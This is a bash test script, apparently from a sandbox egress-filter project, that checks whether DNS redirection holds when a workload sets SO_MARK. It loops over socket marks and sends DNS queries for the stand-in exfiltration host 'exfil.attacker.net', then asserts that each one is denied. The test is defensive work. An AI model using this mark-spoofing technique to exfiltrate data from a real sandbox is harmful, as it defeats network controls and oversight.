#!/usr/bin/env bash
# shellcheck source-path=SCRIPTDIR disable=SC2119,SC2317
# SPDX-License-Identifier: GPL-2.0-only
#
# The redirect exemption is the agent's cgroup, not a packet mark: a
# workload that sets SO_MARK (possible with CAP_NET_RAW alone on >= 5.17)
# is still redirected, so a denied name gets NXDOMAIN from egressd and never
# reaches the upstream. Marks tried: common ones, the OpenSandbox peer's
# 0x1, and every mark that appears in egressd's nft table.

# shellcheck source=lib.sh
. "$(dirname "$0")/lib.sh"

egit_init
egit_require_dnslib
start_upstream
start_egressd --rules "$POLICY"

marks="1 2 0x10 0x100 0x1000 0x2a 0xff 0xffff 0xffffffff"
if command -v nft >/dev/null; then
	table=$(nsenter --net="/run/netns/$SB" -- nft list table inet egressd 2>/dev/null)
	while read -r m; do
		marks="$marks $m"
	done < <(grep -oE 'mark[^;]*0x[0-9a-f]+' <<<"$table" | grep -oE '0x[0-9a-f]+')
fi

i=0
for m in $marks; do
	i=$((i + 1))
	out=$(run_workload "$PY" - "$DNS4" "$m" "m$i.exfil.attacker.net" 2>&1 <<'PY'
import socket, struct, sys
from dnslib import DNSRecord, RCODE
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, struct.pack("I", int(sys.argv[2], 0)))
s.settimeout(3)
s.sendto(DNSRecord.question(sys.argv[3]).pack(), (sys.argv[1], 53))
try:
    print(RCODE[DNSRecord.parse(s.recv(4096)).header.rcode])
except socket.timeout:
    print("TIMEOUT")
PY
)
	assert_eq "SO_MARK $m: denied name still NXDOMAIN" NXDOMAIN "$out"
done
assert_file_not_contains_i "no marked query reached the upstream" "$T/fakedns-up.log" exfil.attacker.net
egit_finish
